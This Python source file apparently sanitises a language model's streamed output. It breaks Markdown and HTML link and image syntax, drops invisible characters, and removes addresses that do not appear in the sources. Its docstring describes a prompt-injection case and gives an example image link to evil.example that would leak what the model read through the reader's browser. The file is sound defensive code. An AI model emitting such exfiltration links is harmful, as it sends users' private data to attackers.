"""What a model wrote, made harmless for whoever shows it: nothing in it loads, and no address is the model's own. Pure.

Before it: a model's text, in pieces as they come. After it: the answer. A document may have talked the model into
`![](https://evil.example/?q=<what it read>)`: the reader's browser would send the secret by showing the answer.

- An image, an inline link, a link definition and a tag with attributes are taken apart by one blank: `! [`, `] (`,
  `] :`, `< img`. Text and code mean the same with it; renderers of Markdown and HTML see no link and load nothing.
- An address (`scheme://...`, `www....`) stays, as plain text, if it stands in the passages or in the question; any
  other was made up, or carries something away, and becomes REMOVED.
- What nobody sees (control, zero-width and bidi characters) is dropped.
"""

from __future__ import annotations

import re
from bisect import bisect_left, bisect_right
from collections.abc import Iterable

from query_api.unseen import without_unseen

REMOVED = "‹address removed›"
"""Of characters that are no syntax, whatever stands beside them."""

_ADDRESS = re.compile(r"(?:[a-z][a-z0-9+.\-]*://|www\.)[^\s<]+", re.IGNORECASE)
_BEHIND = re.compile(r"(?:\[\d{1,3}\]|[.,;:!?()\[\]{}>'\"*_~`|])+\Z")
"""What follows an address in a sentence and is none of it, our own marks included."""

_SYNTAX = re.compile(
    r"!(?=\[)|\](?=[(:])|<(?=[A-Za-z][^\s<>/]*[\s/]|(?:script|style|svg|math|template)\b)", re.IGNORECASE
)
_TAG = re.compile(r"<[a-z]\Z")
_WIDE = "\u2e80"
"""From here on scripts write without blanks; none of their characters is part of any syntax above."""


def addresses(texts: Iterable[str]) -> frozenset[str]:
    """The addresses that stand in these texts."""
    return frozenset(_bare(found.group()) for text in texts for found in _ADDRESS.finditer(without_unseen(text)))


def _bare(address: str) -> str:
    return _BEHIND.sub("", address)


class Outgoing:
    """One text on its way out. The result does not depend on how the text was cut into pieces."""

    def __init__(self, allowed: frozenset[str]) -> None:
        self._allowed = allowed
        self._word: list[str] = []
        self._unbroken = False  # in an address or a tag's name, which may go on in any script
        self._fed = 0
        self._unseen: list[int] = []  # offsets, in what was fed, of characters that nobody sees
        self._read = 0  # characters taken from what is seen, and given out
        self._written = 0
        self._runs: list[tuple[int, int, int]] = []  # (begin in what is seen, begin in what came out, length there)

    def feed(self, piece: str) -> str:
        """What can be shown by now: whole words, since a word may still become an address."""
        said = []
        for raw in piece:
            character = without_unseen(raw)
            if not character:
                self._unseen.append(self._fed)
            self._fed += 1
            if self._ends_word(character):
                said.append(self.finish())
        return "".join(said)

    def finish(self) -> str:
        """The rest."""
        text = "".join(self._word)
        self._word, self._unbroken = [], False
        return self._pass(text)

    def placed(self, offset: int) -> int:
        """Where the character at this offset of all that was fed stands in all that came out."""
        seen = offset - bisect_left(self._unseen, offset)
        at = bisect_right(self._runs, seen, key=lambda run: run[0]) - 1
        if at < 0:
            return 0
        start, begins, length = self._runs[at]
        return begins + min(seen - start, length)

    def _ends_word(self, character: str) -> bool:
        """Take the next character. No syntax and no address goes beyond the end of a word, so it can be judged."""
        if not character:
            return False
        self._word.append(character)
        if not self._unbroken:
            last = "".join(self._word[-4:]).lower()
            self._unbroken = last.endswith(("://", "www.")) or _TAG.search(last) is not None
        return character.isspace() or (character >= _WIDE and not self._unbroken)

    def _pass(self, text: str) -> str:
        said, done = [], 0
        for address in _ADDRESS.finditer(text):
            bare = _bare(address.group())
            if bare not in self._allowed:
                said += [self._taken_apart(text[done : address.start()]), self._replaced(bare, REMOVED)]
                done = address.start() + len(bare)
        said.append(self._taken_apart(text[done:]))
        return "".join(said)

    def _taken_apart(self, text: str) -> str:
        said, done = [], 0
        for syntax in _SYNTAX.finditer(text):
            said += [self._kept(text[done : syntax.end()]), self._replaced("", " ")]
            done = syntax.end()
        said.append(self._kept(text[done:]))
        return "".join(said)

    def _kept(self, text: str) -> str:
        if text:
            self._runs.append((self._read, self._written, len(text)))
        self._read += len(text)
        self._written += len(text)
        return text

    def _replaced(self, text: str, new: str) -> str:
        """`new` stands for `text`; an offset inside of it stays inside."""
        if text:
            self._runs.append((self._read, self._written, len(new)))
        self._read += len(text)
        self._written += len(new)
        return new
